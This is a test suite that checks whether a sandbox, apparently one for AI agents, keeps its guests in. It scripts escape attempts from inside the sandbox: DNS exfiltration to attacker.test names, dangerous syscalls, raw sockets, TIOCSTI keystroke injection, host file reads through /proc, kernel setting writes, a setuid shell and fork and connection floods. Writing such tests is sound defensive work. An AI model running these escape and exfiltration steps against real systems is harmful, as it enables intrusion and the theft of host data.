// Attempts from inside a bottle to leave it: to the network, the host, another bottle, the kernel and the control plane. Two
// bottles run side by side; the host listens on everything that an attacker would look for.
import { createSocket, type Socket as UdpSocket } from "node:dgram";
import {
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { type AddressInfo, createServer, type Server } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  type AttackWorld,
  type Mode,
  modesHere,
  openAttackWorld,
} from "../support/attack-world.ts";
import { missing, requires } from "../support/requires.ts";
import { listen } from "../support/sink.ts";

const BOTTLE =
  "agent_provider: { template: command, settings: { argv: [/bin/true] } }\nlimits: { memory: 1GiB, processes: 256 }";
const ABSTRACT = `bot-bottle-attack-${process.pid}`;
const CANARY = "host-file-canary-7c41";
const NO_ROUTE = /^(ENETUNREACH|EHOSTUNREACH|EADDRNOTAVAIL|EINVAL|ECONNREFUSED)$/;

/** Listeners of the host; each notes whoever comes. */
class Host implements AsyncDisposable {
  readonly visits: string[] = [];
  readonly directory = mkdtempSync(join(tmpdir(), "bb-host-"));
  readonly #servers: Server[] = [];
  #udp: UdpSocket | undefined;
  readonly ports = new Map<string, number>();

  async open(): Promise<this> {
    for (const host of ["127.0.0.1", "0.0.0.0", "::1", "::"]) {
      await this.#tcp(host, { host, port: 0, ipv6Only: host.includes(":") });
    }
    await this.#tcp("abstract", `\0${ABSTRACT}`);
    await this.#tcp("file", join(this.directory, "host.sock"));
    writeFileSync(join(this.directory, "secret"), CANARY);
    const udp = createSocket("udp4");
    udp.on("message", (message) => this.visits.push(`udp ${message.toString()}`));
    await new Promise<void>((resolve) => udp.bind(0, "0.0.0.0", resolve));
    this.ports.set("udp", udp.address().port);
    this.#udp = udp;
    return this;
  }

  async #tcp(name: string, where: object | string): Promise<void> {
    const server = createServer((socket) => {
      this.visits.push(name);
      socket.on("error", () => undefined);
      socket.end("host");
    });
    try {
      await listen(server, where);
    } catch (error) {
      // A machine without IPv6 has no such listener to reach.
      if (name.includes(":")) return void error;
      throw error;
    }
    this.#servers.push(server);
    const address = server.address();
    if (typeof address === "object" && address !== null)
      this.ports.set(name, (address as AddressInfo).port);
  }

  /** Addresses of this machine beside loopback. */
  get addresses(): readonly string[] {
    return Object.values(networkInterfaces()).flatMap((list) =>
      (list ?? []).filter((it) => !it.internal).map((it) => it.address),
    );
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#udp?.close();
    for (const server of this.#servers) await new Promise((resolve) => server.close(resolve));
    rmSync(this.directory, { recursive: true, force: true });
  }
}

/** Pids of the host in the pid namespace of a process. */
function membersOf(namespace: string): number[] {
  return readdirSync("/proc")
    .filter((name) => /^\d+$/.test(name))
    .filter((pid) => {
      try {
        return readlinkSync(`/proc/${pid}/ns/pid`) === namespace;
      } catch (error) {
        // Gone meanwhile, or not ours to look at.
        return void error;
      }
    })
    .map(Number);
}

/** System calls by number on x64 and arm64; arguments are 0 where not given. */
const CALLS: readonly (readonly [name: string, x64: number, arm64: number, ...args: number[]])[] = [
  ["unshare a user namespace", 272, 97, 0x10000000],
  ["unshare a mount namespace", 272, 97, 0x20000],
  ["unshare a network namespace", 272, 97, 0x40000000],
  ["unshare a pid namespace", 272, 97, 0x20000000],
  ["clone into a user namespace", 56, 220, 0x10000011],
  ["clone3", 435, 435],
  ["setns", 308, 268, 0, 0],
  ["mount", 165, 40],
  ["umount2", 166, 39],
  ["open_tree", 428, 428, -100],
  ["move_mount", 429, 429, -100],
  ["fsopen", 430, 430],
  ["fsmount", 432, 432],
  ["mount_setattr", 442, 442, -100],
  ["pivot_root", 155, 41],
  ["chroot", 161, 51],
  ["io_uring_setup", 425, 425, 8],
  ["io_uring_enter", 426, 426],
  ["io_uring_register", 427, 427],
  ["bpf", 321, 280],
  ["perf_event_open", 298, 241],
  ["userfaultfd", 323, 282],
  ["keyctl", 250, 219],
  ["add_key", 248, 217],
  ["request_key", 249, 218],
  ["ptrace", 101, 117, 16, 1],
  ["process_vm_readv", 310, 270, 1],
  ["process_vm_writev", 311, 271, 1],
  ["kcmp", 312, 272, 1, 1],
  ["pidfd_getfd", 438, 438, 0, 0],
  ["kexec_load", 246, 104],
  ["init_module", 175, 105],
  ["finit_module", 313, 273],
  ["delete_module", 176, 106],
  ["reboot", 169, 142],
  ["swapon", 167, 224],
  ["acct", 163, 89],
  ["settimeofday", 164, 170],
  ["clock_settime", 227, 112],
  ["sethostname", 170, 161],
  ["open_by_handle_at", 304, 265],
  ["name_to_handle_at", 303, 264, -100],
  ["fanotify_init", 300, 262],
  ["quotactl", 179, 60],
  ["syslog", 103, 116, 3],
  ["personality with no randomness", 135, 92, 0x0040000],
  ["mbind", 237, 235],
  ["move_pages", 279, 239, 1],
  ["lookup_dcookie", 212, 18],
  ["setuid 0", 105, 146, 0],
  ["setgid 0", 106, 144, 0],
  ["capset", 126, 91],
];

/** Kinds of sockets: family, type, protocol. */
const SOCKETS: readonly (readonly [
  name: string,
  family: number,
  type: number,
  protocol: number,
])[] = [
  ["raw IPv4, ICMP", 2, 3, 1],
  ["raw IPv4, anything", 2, 3, 255],
  ["raw IPv6, ICMP", 10, 3, 58],
  ["ping", 2, 2, 1],
  ["ping over IPv6", 10, 2, 58],
  ["packet", 17, 3, 0x0300],
  ["packet datagram", 17, 2, 0x0300],
  ["vsock", 40, 1, 0],
  ["netlink audit", 16, 3, 9],
  ["netlink netfilter", 16, 3, 12],
  ["netlink kobject uevents", 16, 3, 15],
  ["netlink xfrm", 16, 3, 6],
  ["netlink connector", 16, 3, 11],
  ["kernel crypto", 38, 5, 0],
  ["bluetooth", 31, 3, 1],
  ["tipc", 30, 1, 0],
  ["can", 29, 3, 1],
  ["xdp", 44, 3, 0],
  ["rxrpc", 33, 2, 2],
  ["sctp", 2, 5, 132],
  ["dccp", 2, 6, 33],
  ["udplite", 2, 2, 136],
  ["mptcp", 2, 1, 262],
  ["key management", 15, 3, 2],
];

describe.each(modesHere())("a guest of %s", requires("bwrap", "userns"), (mode: Mode) => {
  let host: Host;
  let world: AttackWorld;
  beforeAll(async () => {
    host = await new Host().open();
    world = await openAttackWorld({ mode, bottles: { one: BOTTLE, two: BOTTLE } });
    await world.ask("listen", { port: 18_080 }, 1);
    await world.ask("listen", { path: `\0${ABSTRACT}-two` }, 1);
    await world.ask("listen", { path: "/tmp/two.sock" }, 1);
    await world.ask("write", { path: "/dev/shm/two", text: "memory of two" }, 1);
    await world.ask("write", { path: "/home/node/workspace/two", text: "work of two" }, 1);
  });
  afterAll(async () => {
    await world?.[Symbol.asyncDispose]();
    await host?.[Symbol.asyncDispose]();
  });
  const outcome = async (op: string, options: object): Promise<string> =>
    (await world.ask(op, options)).outcome ?? "";
  const nobodyCame = (): void => expect(host.visits).toEqual([]);

  it("has a working door and nothing else to speak to", async () => {
    expect(await outcome("connect", { host: "127.0.0.1", port: 9099 })).toBe("connected");
    expect(await outcome("connect", { host: "egress", port: 9099 })).toBe("connected");
    expect(await outcome("connect", { path: "/run/bot-bottle/doors/proxy.sock" })).toBe(
      "connected",
    );
    expect(await outcome("list", { path: "/run/bot-bottle/doors" })).toBe("proxy.sock");
    expect(await outcome("connect", { path: "/run/bot-bottle/doors/init.sock" })).toBe("ENOENT");
    for (const port of [1, 22, 53, 80, 443, 2375, 3128, 8888, 9100, 9418, 9420]) {
      expect([port, await outcome("connect", { host: "127.0.0.1", port })]).toEqual([
        port,
        "ECONNREFUSED",
      ]);
    }
  });

  describe("the network", () => {
    it.each([
      ["a public address", "1.1.1.1"],
      ["a private one", "10.0.0.1"],
      ["a private one", "172.17.0.1"],
      ["a private one", "192.168.1.1"],
      ["the metadata service", "169.254.169.254"],
      ["a carrier's one", "100.64.0.1"],
      ["the network's own", "255.255.255.255"],
      ["a group", "224.0.0.251"],
      ["a public IPv6 address", "2606:4700:4700::1111"],
      ["a link-local one", "fe80::1"],
      ["a unique local one", "fd00::1"],
      ["the metadata service over IPv6", "fd00:ec2::254"],
      ["a mapped one", "::ffff:1.1.1.1"],
      ["a translated one", "64:ff9b::101:101"],
    ])("leads to nowhere: %s, %s", async (_name, address) => {
      const began = performance.now();
      for (const port of [443, 53, 22])
        expect(await outcome("connect", { host: address, port })).toMatch(NO_ROUTE);
      expect(await outcome("udp", { host: address, port: 53, data: "x" })).toMatch(
        /^(ENETUNREACH|EHOSTUNREACH|EADDRNOTAVAIL|EACCES|EINVAL)$/,
      );
      expect(performance.now() - began).toBeLessThan(1500);
    });

    it("asks no name of anybody", async () => {
      for (const name of [
        "example.com",
        "secret-in-a-label.attacker.test",
        "localhost.attacker.test",
      ]) {
        expect(await outcome("look", { name })).toMatch(/^(ENOTFOUND|EAI_AGAIN)$/);
      }
      for (const server of [
        "8.8.8.8",
        "1.1.1.1:53",
        "127.0.0.1",
        "127.0.0.53",
        "[2001:4860:4860::8888]",
      ]) {
        for (const type of ["A", "TXT"]) {
          expect(await outcome("look", { name: "data.attacker.test", server, type })).toMatch(
            /^(ECONNREFUSED|ETIMEOUT|ESERVFAIL|EREFUSED)$/,
          );
        }
      }
      const { stdout = "" } = await world.sh(
        "cat /etc/resolv.conf; getent hosts example.com; getent ahosts attacker.test",
      );
      expect(stdout).not.toMatch(/nameserver (?!127\.)|\d+\.\d+\.\d+\.\d+ .*STREAM/);
    });

    it("reaches no listener of the host, whatever it is bound to", async () => {
      const own = host.addresses.slice(0, 6);
      for (const port of [...host.ports]
        .filter(([name]) => name !== "udp")
        .map(([, number]) => number)) {
        for (const address of ["127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "::", ...own]) {
          expect([address, port, await outcome("connect", { host: address, port })]).toEqual([
            address,
            port,
            expect.stringMatching(NO_ROUTE),
          ]);
        }
      }
      for (const address of [
        "127.0.0.1",
        "127.255.255.255",
        ...own.filter((it) => !it.includes(":")),
      ]) {
        await outcome("udp", {
          host: address,
          port: host.ports.get("udp"),
          data: "from the guest",
        });
      }
      nobodyCame();
    });

    it("reaches no unix socket of the host, abstract or in a file", async () => {
      expect(await outcome("connect", { path: `\0${ABSTRACT}` })).toBe("ECONNREFUSED");
      expect(await outcome("connect", { path: join(host.directory, "host.sock") })).toBe("ENOENT");
      for (const path of [
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/systemd/private",
        "/run/dbus/system_bus_socket",
        "/tmp/.X11-unix/X0",
        "/run/user/0/bus",
        "/run/user/1000/bus",
      ]) {
        expect([path, await outcome("connect", { path })]).toEqual([path, "ENOENT"]);
      }
      nobodyCame();
    });

    it("cannot give itself an address, a route or an interface", async () => {
      const { stdout = "" } = await world.sh(
        "for c in 'ip link add d0 type dummy' 'ip addr add 10.9.8.7/24 dev lo' 'ip route add default dev lo' 'ip link set lo down' 'iptables -L' 'nft list ruleset' 'tc qdisc add dev lo root netem'; do $c 2>/dev/null && echo \"DONE $c\"; done; cat /proc/net/route /proc/net/ipv6_route /proc/net/if_inet6",
      );
      expect(stdout).not.toMatch(/DONE (?!iptables|nft)/);
      expect(
        stdout.split("\n").filter((line) => /\b(eth|en|wl|docker|br|tun|tap)\S*$/.test(line)),
      ).toEqual([]);
      expect(await outcome("connect", { host: "127.0.0.1", port: 9099 })).toBe("connected");
    });

    it.each(SOCKETS)("opens no socket: %s", requires("perl"), async (_name, ...numbers) => {
      const { stdout } = await world.run([
        "perl",
        "-e",
        `socket(my $s, ${numbers.join(",")}) and print "open"`,
      ]);
      expect(stdout).toBe("");
    });

    it("has no tunnel device, no ping, no packet capture", async () => {
      for (const path of [
        "/dev/net/tun",
        "/dev/kvm",
        "/dev/vhost-net",
        "/dev/vhost-vsock",
        "/dev/vsock",
        "/dev/fuse",
        "/dev/mem",
        "/dev/kmsg",
        "/dev/uinput",
        "/dev/sda",
        "/dev/vda",
        "/dev/loop0",
        "/dev/loop-control",
        "/dev/mapper/control",
        "/dev/rtc0",
        "/dev/bpf",
      ]) {
        expect([path, await outcome("read", { path })]).toEqual([path, "ENOENT"]);
      }
      expect((await world.sh("ping -c 1 -W 1 127.0.0.1 || ping -c 1 -W 1 1.1.1.1")).code).not.toBe(
        0,
      );
      expect(
        (
          await world.sh(
            "mknod /tmp/sda b 8 0 || mknod /tmp/mem c 1 1 || mknod /home/node/kmsg c 1 11",
          )
        ).code,
      ).not.toBe(0);
    });
  });

  describe("another bottle", () => {
    it("is not reached through its port, its sockets or its shared memory", async () => {
      expect((await world.ask("connect", { host: "127.0.0.1", port: 18_080 }, 1)).outcome).toBe(
        "connected",
      );
      expect((await world.ask("connect", { path: "/tmp/two.sock" }, 1)).outcome).toBe("connected");
      expect(await outcome("connect", { host: "127.0.0.1", port: 18_080 })).toBe("ECONNREFUSED");
      expect(await outcome("connect", { path: `\0${ABSTRACT}-two` })).toBe("ECONNREFUSED");
      expect(await outcome("connect", { path: "/tmp/two.sock" })).toBe("ENOENT");
      expect(await outcome("read", { path: "/dev/shm/two" })).toBe("ENOENT");
      expect(await outcome("list", { path: "/dev/shm" })).toBe("");
    });

    it("is not found in the file system: no door, no work, no log", async () => {
      const { run = "", state = "", workspace = "", audit = "" } = world.bottles[1] ?? {};
      for (const path of [join(run, "doors/proxy.sock"), join(run, "control.sock")]) {
        expect(await outcome("connect", { path })).toBe("ENOENT");
      }
      for (const path of [run, state, workspace, audit, world.home, world.root])
        expect(await outcome("read", { path })).toBe("ENOENT");
      const { stdout = "" } = await world.sh(
        "grep -rl 'work of two' /home /run /tmp /proc/*/cwd/ 2>/dev/null",
      );
      expect(stdout).toBe("");
    });

    it("shows no process, and none can be signalled, traced or read", async () => {
      const { stdout = "" } = await world.sh("ls /proc | grep -c '^[0-9]'; cat /proc/*/comm");
      expect(Number(stdout.split("\n")[0])).toBeLessThan(12);
      // Bottles of root have uids of their own, so even the kernel's own check would stop them.
      const probe = readdirSync("/proc")
        .filter((name) => /^\d+$/.test(name) && Number(name) > 4000)
        .slice(0, 40);
      const { stdout: signalled = "" } = await world.sh(
        `for p in ${probe.join(" ")}; do kill -0 $p 2>/dev/null && echo $p; done; true`,
      );
      const own = ((await world.sh("ls /proc | grep '^[0-9]'")).stdout ?? "").split("\n");
      expect(signalled.split("\n").filter((pid) => pid !== "" && !own.includes(pid))).toEqual([]);
    });

    it("has memory queues of its own", requires("perl"), async () => {
      const get = (flags: string): string[] => [
        "perl",
        "-e",
        `my $id = shmget(0x5eed, 4096, ${flags}); print defined $id ? "segment" : "none"`,
      ];
      expect((await world.run(get("0666 | 01000"), {}, 1)).stdout).toBe("segment");
      expect((await world.run(get("0666"))).stdout).toBe("none");
    });
  });

  describe("the kernel", () => {
    it.each(CALLS)("refuses to %s", requires("perl"), async (_name, x64, arm64, ...args) => {
      const number = { x64, arm64 }[process.arch as "x64" | "arm64"];
      if (number === undefined) return;
      const all = [...args, 0, 0, 0, 0, 0].slice(0, 5).join(",");
      const { stdout, code } = await world.run([
        "perl",
        "-e",
        `my $r = syscall(${number},${all}); print $r == -1 ? "refused" : "done $r"; exit 0`,
      ]);
      expect([stdout, code]).toEqual(["refused", 0]);
    });

    it("refuses them to a program of its own as well", requires("cc"), async () => {
      const source = `#define _GNU_SOURCE
#include <errno.h>\n#include <sched.h>\n#include <stdio.h>\n#include <sys/ioctl.h>\n#include <sys/mount.h>\n#include <sys/ptrace.h>\n#include <unistd.h>\n#include <fcntl.h>\n#include <stdlib.h>
int main(void) {
  char c = 'x', sub[4] = {2};
  if (unshare(CLONE_NEWUSER) == 0) puts("user namespace");
  if (mount("none", "/tmp", "tmpfs", 0, "") == 0) puts("mount");
  if (ptrace(PTRACE_ATTACH, 1, 0, 0) == 0) puts("trace of 1");
  int master = posix_openpt(O_RDWR | O_NOCTTY);
  if (master >= 0 && grantpt(master) == 0 && unlockpt(master) == 0) {
    int slave = open(ptsname(master), O_RDWR);
    if (ioctl(slave, TIOCSTI, &c) == 0) puts("typing by TIOCSTI");
    if (ioctl(slave, TIOCLINUX, sub) == 0) puts("typing by TIOCLINUX");
    /* The upper half of the request number is ignored by the kernel and must not fool the filter. */
    if (ioctl(slave, 0x100000000UL | TIOCSTI, &c) == 0) puts("typing by a long TIOCSTI");
    puts(slave >= 0 ? "terminal" : "no terminal");
  }
  return 0;
}`;
      const { stdout, stderr } = await world.sh(
        `cd /tmp && cat > a.c <<'END'\n${source}\nEND\ncc -o a a.c && ./a`,
      );
      if (missing("cc") === undefined && stderr?.includes("not found")) return;
      expect(stdout).toBe("terminal\n");
    });

    it("has no right to gain, and gains none by set-uid programs or file capabilities", async () => {
      const { stdout = "" } = await world.sh("cat /proc/self/status; id -u; id -G");
      expect(stdout).toMatch(/^NoNewPrivs:\t1$/m);
      expect(stdout).toMatch(/^Seccomp:\t2$/m);
      expect(stdout.match(/^Cap\w+:\t0{16}$/gm)).toHaveLength(5);
      const gained = await world.sh(
        "su -c id root </dev/null; sudo -n id; pkexec id; newgrp root -c id; mount; true",
      );
      expect(gained.stdout).not.toMatch(/uid=0/);
    });

    it("takes no setting of the kernel from the guest", async () => {
      const settings = [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/kernel/randomize_va_space",
        "/proc/sys/kernel/hostname",
        "/proc/sys/kernel/unprivileged_userns_clone",
        "/proc/sys/vm/overcommit_memory",
        "/proc/sys/vm/drop_caches",
        "/proc/sys/fs/binfmt_misc/register",
        "/proc/sys/net/ipv4/ip_forward",
        "/proc/sys/net/ipv4/ping_group_range",
        "/proc/sys/net/ipv4/ip_unprivileged_port_start",
        "/proc/sysrq-trigger",
        "/proc/irq/0/smp_affinity",
        "/proc/bus/pci/devices",
        "/proc/acpi",
        "/proc/kcore",
        "/proc/timer_list",
        "/proc/1/oom_score_adj",
        "/sys/kernel/uevent_helper",
        "/sys/kernel/mm/ksm/run",
        "/sys/power/state",
        "/sys/fs/cgroup/release_agent",
        "/sys/fs/cgroup/cgroup.procs",
        "/sys/fs/cgroup/memory/memory.limit_in_bytes",
      ];
      const before = readFileSync("/proc/sys/kernel/core_pattern", "utf8");
      for (const path of settings) {
        const result = await outcome("write", { path, text: "1" });
        expect([path, result]).toEqual([
          path,
          expect.stringMatching(/^(EACCES|EPERM|EROFS|ENOENT|EISDIR|EINVAL|EIO)$/),
        ]);
      }
      expect(readFileSync("/proc/sys/kernel/core_pattern", "utf8")).toBe(before);
      const { stdout = "" } = await world.sh(
        "find /proc/sys /sys -writable -type f 2>/dev/null | head; ls /sys 2>/dev/null; find / -xdev -name release_agent 2>/dev/null",
      );
      expect(stdout).toBe("");
    });

    it("tells nothing of the host by /proc", async () => {
      const { stdout = "" } = await world.sh(
        "cat /proc/keys /proc/key-users /proc/kallsyms /proc/1/environ /proc/1/cmdline /proc/2/environ /proc/mounts /proc/self/mountinfo 2>/dev/null | tr '\\0' '\\n'",
      );
      for (const trace of [
        "launcher-environment-canary",
        "LAUNCHER_VARIABLE",
        world.home,
        "attack-owner",
      ]) {
        if (trace === world.home) continue;
        expect(stdout).not.toContain(trace);
      }
      expect(stdout).not.toMatch(/^[0-9a-f]*[1-9a-f][0-9a-f]* [tTdD] /m);
    });
  });

  describe("files", () => {
    it("of the host are out of reach", async () => {
      const secret = join(host.directory, "secret");
      const ways = [
        secret,
        `/proc/1/root${secret}`,
        `/proc/2/root${secret}`,
        `/proc/self/root${secret}`,
        `/proc/1/cwd${secret}`,
        `/driver/../..${secret}`,
      ];
      for (const path of ways) expect(await outcome("read", { path })).not.toContain(CANARY);
      await world.sh(
        `ln -s ${secret} /home/node/workspace/link; ln -s /proc/1/root /home/node/workspace/root`,
      );
      expect(await outcome("read", { path: "/home/node/workspace/link" })).toBe("ENOENT");
      for (const path of [
        "/root",
        "/boot",
        "/mnt",
        "/media",
        "/srv",
        "/sys",
        "/var/lib",
        "/var/log",
        "/etc/shadow",
        "/etc/ssh",
      ]) {
        expect([path, await outcome("list", { path })]).toEqual([path, "ENOENT"]);
      }
    });

    it("of the bottle are what they should be: read-only outside of home and memory", async () => {
      const forbidden = [
        "/x",
        "/usr/x",
        "/usr/bin/x",
        "/etc/passwd",
        "/etc/hosts",
        "/etc/ssl/certs/ca-certificates.crt",
        "/opt/x",
        "/opt/bot-bottle/guest-init.js",
        "/opt/bot-bottle/bin/node",
        "/driver/attack-driver.mjs",
        "/run/bot-bottle/doors/x",
        "/dev/x",
        "/proc/1/attr/current",
      ];
      for (const path of forbidden) {
        expect([path, await outcome("write", { path, text: "x" })]).toEqual([
          path,
          expect.stringMatching(/^(EROFS|EACCES|EPERM|EINVAL|ETXTBSY|ENOENT)$/),
        ]);
      }
      const changed = await world.sh(
        "rm -f /run/bot-bottle/doors/proxy.sock; mv /run/bot-bottle/doors /tmp/d; mount -o remount,rw /; mount -o remount,rw /driver; umount /proc/sys; true",
      );
      expect(changed.stdout).toBe("");
      expect(await outcome("list", { path: "/run/bot-bottle/doors" })).toBe("proxy.sock");
      expect(await outcome("write", { path: "/home/node/workspace/mine", text: "x" })).toBe(
        "written",
      );
    });

    it("made in the bottle are no danger outside: no set-uid, no device, no owner", async () => {
      await world.sh(
        "cp /bin/sh /home/node/workspace/suid; chmod 6777 /home/node/workspace/suid; mkfifo /home/node/workspace/fifo",
      );
      const { workspace = "" } = world.bottles[0] ?? {};
      expect(existsSync(join(workspace, "suid"))).toBe(true);
      const { uid, mode: bits } = statSync(join(workspace, "suid"));
      if (mode === "root") expect(uid).toBeGreaterThan(1_000_000_000);
      expect(uid).not.toBe(0);
      expect(bits & 0o4000 ? uid : 1).not.toBe(0);
      // The way there is closed to everybody else.
      expect(statSync(join(world.home, "state")).mode & 0o077).toBe(0);
    });
  });

  describe("the control plane", () => {
    it("is not there: no socket, no credential, no variable of the operator", async () => {
      const { env = {} } = await world.ask("env");
      const known =
        /^(LANG|HOME|USER|LOGNAME|SHELL|PATH|BOT_BOTTLE_SLUG|\w+_PROXY|\w+_proxy|NODE_USE_ENV_PROXY|\w*CA\w*|SSL_CERT_FILE|DENO_CERT|PIP_CERT|GIT_SSL_CAINFO|\w+_SECRET|TERM|PWD|SHLVL|_)$/;
      expect(Object.keys(env).filter((name) => !known.test(name))).toEqual([]);
      const { run = "" } = world.bottles[0] ?? {};
      expect(await outcome("connect", { path: join(run, "control.sock") })).toBe("ENOENT");
      const { stdout = "" } = await world.sh(
        "find / -xdev -type s 2>/dev/null; find /run /tmp /var -type s 2>/dev/null",
      );
      expect([...new Set(stdout.trim().split("\n"))].filter((path) => path !== "")).toEqual([
        "/run/bot-bottle/doors/proxy.sock",
      ]);
    });

    it("cannot be spoken to over the guest-init process", async () => {
      const { stdout = "" } = await world.sh(
        "ls -l /proc/2/fd 2>/dev/null | grep -c socket; for f in /proc/2/fd/*; do echo x > $f; done 2>/dev/null; kill -0 2 && echo visible; cat /proc/2/mem 2>&1 | head -c 20",
      );
      expect(stdout).toContain("visible");
      // The link of guest-init is still whole.
      expect((await world.sh("echo alive")).stdout).toBe("alive\n");
      const memory = await world.run([
        "/opt/bot-bottle/bin/node",
        "-e",
        "const fs=require('fs');const d=fs.openSync('/proc/2/mem','r');console.log('opened')",
      ]);
      expect(memory.stdout).not.toContain("opened");
    });
  });

  describe("abuse", () => {
    it("of processes ends at the limit, and the door stays open", async () => {
      const bomb =
        "const {spawn}=require('child_process');let n=0,f=0;for(let i=0;i<600;i++){const c=spawn('/bin/sleep',['2'],{stdio:'ignore'});c.on('error',()=>f++);if(c.pid)n++}setTimeout(()=>{console.log(n,f);process.exit(0)},1000)";
      const { stdout = "" } = await world.run(["/opt/bot-bottle/bin/node", "-e", bomb]);
      const [made = 0, failed = 0] = stdout.split(" ").map(Number);
      expect(made).toBeLessThan(256);
      expect(failed).toBeGreaterThan(300);
      expect(await outcome("connect", { host: "127.0.0.1", port: 9099 })).toBe("connected");
      expect((await world.ask("connect", { host: "127.0.0.1", port: 9099 }, 1)).outcome).toBe(
        "connected",
      );
    });

    it("of file systems in memory ends at their size", async () => {
      const { stdout = "" } = await world.sh(
        "for d in /tmp /run /dev/shm; do df -k --output=size $d | tail -1; done; df -k --output=size / | tail -1",
      );
      for (const size of stdout.trim().split("\n").slice(0, 3))
        expect(Number(size)).toBeLessThanOrEqual(1_048_576);
    });

    it("of the proxy by many connections leaves it answering", async () => {
      const flood =
        "const net=require('net');const s=[];for(let i=0;i<700;i++){const c=net.connect(9099,'127.0.0.1');c.on('error',()=>0);s.push(c)}setTimeout(()=>{for(const c of s)c.destroy();console.log('flooded');process.exit(0)},1500)";
      const flooding = world.run(["/opt/bot-bottle/bin/node", "-e", flood]);
      expect((await flooding).stdout).toBe("flooded\n");
      const { text } = await world.ask("raw", {
        parts: [
          Buffer.from(
            "GET http://x.test/ HTTP/1.1\r\nHost: x.test\r\nConnection: close\r\n\r\n",
          ).toString("base64"),
        ],
      });
      expect(text).toMatch(/^HTTP\/1\.1 403 /);
    });

    it("of guest-init's ears: a program that writes without end is just a program", async () => {
      const { stdout = "", code } = await world.run([
        "/bin/sh",
        "-c",
        "head -c 3000000 /dev/zero | tr '\\0' x | wc -c",
      ]);
      expect([stdout.trim(), code]).toEqual(["3000000", 0]);
    });
  });

  it("has a host that heard nothing of all this", () => {
    nobodyCame();
    const { run = "" } = world.bottles[0] ?? {};
    expect(membersOf(readlinkSync("/proc/self/ns/pid")).length).toBeGreaterThan(0);
    expect(readdirSync(join(run, "doors"))).toEqual(["proxy.sock"]);
  });
});
